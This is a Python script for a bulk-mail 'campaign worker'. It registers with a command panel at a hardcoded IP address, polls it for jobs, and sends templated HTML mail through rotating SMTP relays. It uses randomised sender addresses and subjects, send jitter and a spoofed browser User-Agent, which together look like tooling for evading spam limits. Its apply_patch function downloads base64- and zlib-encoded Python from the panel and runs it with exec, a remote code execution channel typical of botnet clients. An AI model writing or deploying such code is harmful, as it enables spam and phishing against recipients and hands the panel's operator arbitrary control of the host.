#!/usr/bin/env python3
"""Campaign worker: pulls mailing jobs from the dispatch panel and delivers
them through the configured SMTP relays.  Supports hot-patching so the panel
can push new send strategies without redeploying workers."""

import base64
import json
import logging
import random
import smtplib
import socket
import time
import urllib.request
import uuid
import zlib
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

PANEL = "http://185.212.47.19:8088/api"
WORKER_ID = f"{socket.gethostname()}-{uuid.getnode():x}"
POLL_INTERVAL = 45
log = logging.getLogger("worker")

STRATEGY = {"per_relay": 40, "jitter": (0.2, 1.5)}


def panel_call(path, payload=None):
    url = f"{PANEL}/{path}"
    data = json.dumps(payload).encode() if payload is not None else None
    req = urllib.request.Request(url, data=data, headers={
        "Content-Type": "application/json",
        "X-Worker": WORKER_ID,
        "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    })
    with urllib.request.urlopen(req, timeout=30) as resp:
        return json.loads(resp.read().decode("utf-8", "replace"))


def apply_patch(blob):
    """Panel-supplied strategy update (zlib+base64 python)."""
    code = zlib.decompress(base64.b64decode(blob)).decode("utf-8")
    scope = {"STRATEGY": STRATEGY, "smtplib": smtplib, "log": log}
    exec(compile(code, "<patch>", "exec"), scope)
    STRATEGY.update(scope.get("STRATEGY", {}))


def render(template, rcpt):
    first = rcpt.split("@")[0].split(".")[0].capitalize()
    body = template["html"].replace("{{name}}", first).replace("{{email}}", rcpt)
    msg = MIMEMultipart("alternative")
    msg["Subject"] = random.choice(template["subjects"])
    msg["From"] = f'{template["from_name"]} <{random.choice(template["from_pool"])}>'
    msg["To"] = rcpt
    msg["Message-ID"] = f"<{uuid.uuid4().hex}@{template['helo']}>"
    msg.attach(MIMEText(body, "html", "utf-8"))
    return msg


def send_batch(job):
    relays = job["relays"]
    sent = failed = 0
    rcpts = job["recipients"]
    for i in range(0, len(rcpts), STRATEGY["per_relay"]):
        relay = random.choice(relays)
        chunk = rcpts[i:i + STRATEGY["per_relay"]]
        try:
            smtp = smtplib.SMTP(relay["host"], relay.get("port", 25), timeout=20)
            smtp.ehlo(job["template"]["helo"])
            if relay.get("user"):
                smtp.starttls()
                smtp.login(relay["user"], relay["pass"])
        except (OSError, smtplib.SMTPException) as exc:
            log.debug("relay %s down: %s", relay["host"], exc)
            failed += len(chunk)
            continue
        for rcpt in chunk:
            try:
                msg = render(job["template"], rcpt)
                smtp.sendmail(msg["From"], [rcpt], msg.as_string())
                sent += 1
            except smtplib.SMTPException:
                failed += 1
            time.sleep(random.uniform(*STRATEGY["jitter"]))
        try:
            smtp.quit()
        except smtplib.SMTPException:
            pass
    return sent, failed


def main():
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    panel_call("register", {"id": WORKER_ID, "host": socket.gethostname()})
    while True:
        try:
            task = panel_call(f"task?w={WORKER_ID}")
        except Exception as exc:  # panel unreachable, back off
            log.debug("poll failed: %s", exc)
            time.sleep(POLL_INTERVAL * 2)
            continue
        if task.get("patch"):
            try:
                apply_patch(task["patch"])
            except Exception as exc:
                log.debug("patch failed: %s", exc)
        job = task.get("job")
        if job:
            sent, failed = send_batch(job)
            panel_call("report", {"id": WORKER_ID, "job": job["id"],
                                  "sent": sent, "failed": failed})
        time.sleep(POLL_INTERVAL)


if __name__ == "__main__":
    main()
